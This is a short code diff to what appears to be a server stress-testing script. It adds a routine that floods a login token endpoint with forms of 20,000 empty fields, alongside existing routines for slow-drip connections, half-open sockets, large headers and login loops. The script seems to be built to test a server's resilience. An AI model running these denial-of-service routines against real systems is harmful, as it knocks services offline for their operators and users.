@@ -153,6 +153,13 @@ def log_in(server: Place) -> None:
     send(server, head("/api/v1/token", "POST", Content_Length=str(len(body)), Content_Type=form) + body)
 
 
+def log_in_with_fields(server: Place) -> None:
+    """A form of 20,000 fields without a name and a password."""
+    body = b"a=&" * 20_000
+    form = "application/x-www-form-urlencoded"
+    send(server, head("/api/v1/token", "POST", Content_Length=str(len(body)), Content_Type=form) + body)
+
+
 def dribble(server: Place, begin: bytes) -> None:
     """1,300 connections, a byte on each every second; one that is ended is opened again."""
     connections: list[socket.socket | None] = [None] * 1300
@@ -204,6 +211,7 @@ ATTACKS: dict[str, tuple[Callable[[Place], None], int]] = {
     "half-open": (hold_open, 1),
     "large header": (send_large_header, 1),
     "log-in loops": (log_in, 10),
+    "long forms": (log_in_with_fields, 10),
 }
 """What each does, again and again, and in how many threads."""
 
